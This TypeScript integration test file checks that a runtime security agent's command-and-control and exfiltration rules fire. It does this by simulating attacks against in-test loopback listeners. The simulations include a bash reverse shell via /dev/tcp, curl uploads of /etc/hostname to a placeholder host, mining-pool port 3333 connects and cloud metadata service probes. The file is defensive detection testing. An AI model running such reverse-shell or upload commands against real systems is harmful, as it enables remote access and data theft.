/**
 * Live: the command-and-control and exfiltration rules
 * (rules/40-exfiltration.yaml), with real connects to in-test listeners.
 */
import { copyFileSync, mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { exec, LiveAgent, rulesLiveSkipReason } from "./rules-live-agent.js";

const skipReason = rulesLiveSkipReason();
if (skipReason) console.warn(`test/integration/rules-exfiltration.test.ts skipped: ${skipReason}`);

/** This host's first non-loopback IPv4 address. */
function hostAddress(): string | undefined {
  for (const list of Object.values(networkInterfaces())) {
    for (const a of list ?? []) if (a.family === "IPv4" && !a.internal) return a.address;
  }
  return undefined;
}

/** A node one-liner that connects (non-blocking) and exits whatever happens. */
function connectScript(host: string, port: number): string {
  return `const s = require("net").connect(${port}, ${JSON.stringify(host)}); s.on("error", () => process.exit(0)); s.on("connect", () => process.exit(0)); setTimeout(() => process.exit(0), 500);`;
}

function listen(port: number, host: string): Promise<Server> {
  const server = createServer((socket) => socket.destroy());
  return new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(port, host, () => resolve(server));
  });
}

describe.skipIf(skipReason !== undefined)("default rules: command and control, exfiltration (live)", () => {
  let agent: LiveAgent;
  let work: string;
  let listener: Server;
  let port: number;

  beforeAll(async () => {
    work = mkdtempSync(join(tmpdir(), "pg-rules-exfil-"));
    listener = await listen(0, "127.0.0.1");
    port = (listener.address() as { port: number }).port;
    agent = await LiveAgent.start();
  });

  afterAll(async () => {
    await agent?.stop();
    listener?.close();
    rmSync(work, { recursive: true, force: true });
  });

  it("Outbound connection by a shell or text utility: bash's /dev/tcp, not node", async () => {
    const rule = "Outbound connection by a shell or text utility";
    const benign = await exec(process.execPath, ["-e", connectScript("127.0.0.1", port)]);
    const attack = await exec("/bin/bash", ["-c", `exec 3<>/dev/tcp/127.0.0.1/${port}`]);
    const d = await agent.waitForRule(rule, attack.pid);
    expect(d).toMatchObject({
      priority: "Warning",
      tags: expect.arrayContaining(["T1059.004", "mitre_command_and_control"]),
      output_fields: { "fd.sip": "127.0.0.1", "fd.sport": port, "fd.l4proto": "tcp", "proc.name": "bash" },
    });
    await agent.settle();
    expect(agent.of(benign.pid, rule)).toEqual([]);
  });

  it("Connection to a mining pool port: port 3333 on a host address, not on loopback", async (ctx) => {
    const rule = "Connection to a mining pool port";
    const address = hostAddress();
    if (address === undefined) ctx.skip();
    let pool: Server;
    try {
      pool = await listen(3333, "0.0.0.0");
    } catch (err) {
      console.warn(`mining pool port test skipped: cannot listen on 3333 (${String(err)})`);
      return ctx.skip();
    }
    try {
      const benign = await exec(process.execPath, ["-e", connectScript("127.0.0.1", 3333)]);
      const attack = await exec(process.execPath, ["-e", connectScript(address ?? "", 3333)]);
      const d = await agent.waitForRule(rule, attack.pid);
      expect(d).toMatchObject({
        priority: "Warning",
        tags: expect.arrayContaining(["T1496"]),
        output_fields: { "fd.sip": address, "fd.sport": 3333, "proc.name": "node" },
      });
      await agent.settle();
      expect(agent.of(benign.pid, rule)).toEqual([]);
    } finally {
      pool.close();
    }
  });

  it("Cloud metadata service contacted by unexpected program: 169.254.169.254, not its neighbour", async () => {
    const rule = "Cloud metadata service contacted by unexpected program";
    const benign = await exec(process.execPath, ["-e", connectScript("169.254.169.253", 80)]);
    const attack = await exec(process.execPath, ["-e", connectScript("169.254.169.254", 80)]);
    const d = await agent.waitForRule(rule, attack.pid);
    expect(d).toMatchObject({
      priority: "Notice",
      tags: expect.arrayContaining(["T1552.005"]),
      output_fields: { "fd.sip": "169.254.169.254", "fd.sport": 80, "proc.name": "node" },
    });
    await agent.settle();
    expect(agent.of(benign.pid, rule)).toEqual([]);
  });

  it("File upload with a transfer tool: curl -T and -F file=@, not a download", async () => {
    const rule = "File upload with a transfer tool";
    const curl = join(work, "curl");
    copyFileSync("/bin/true", curl);
    const benign = await exec(curl, ["-o", "/tmp/out", "https://example.com/file"]);
    const upload = await exec(curl, ["-T", "/etc/hostname", "https://203.0.113.9/drop"]);
    const form = await exec(curl, ["-F", "f=@/etc/hostname", "https://203.0.113.9/drop"]);
    const d = await agent.waitForRule(rule, upload.pid);
    expect(d).toMatchObject({
      priority: "Notice",
      tags: expect.arrayContaining(["T1048"]),
      output_fields: { "proc.cmdline": "curl -T /etc/hostname https://203.0.113.9/drop" },
    });
    await agent.waitForRule(rule, form.pid);
    await agent.settle();
    expect(agent.of(benign.pid, rule)).toEqual([]);
  });

  it("Standard input or output redirected to a network socket: bash -i >& /dev/tcp, not a redirect to a file", async () => {
    const rule = "Standard input or output redirected to a network socket";
    const benign = await exec("/bin/bash", ["-c", `exec 1>${join(work, "out.txt")} 0<&1; true`]);
    // The listener closes the connection at once: the shell reads end-of-file and exits.
    const attack = await exec("/bin/bash", ["-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]);
    const d = await agent.waitFor(
      (x) =>
        x.rule === rule &&
        x.output_fields["proc.name"] === "bash" &&
        x.output_fields["proc.pcmdline"] === `bash -c bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`,
      rule,
    );
    expect(d).toMatchObject({
      priority: "Warning",
      tags: expect.arrayContaining(["T1059.004"]),
      output_fields: { "fd.name": expect.stringContaining(`->127.0.0.1:${port}`) },
    });
    expect([0, 1, 2]).toContain(d.output_fields["evt.rawres"]);
    await agent.settle();
    expect(agent.of(benign.pid, rule)).toEqual([]);
    expect(attack.pid).toBeGreaterThan(0);
  });
});
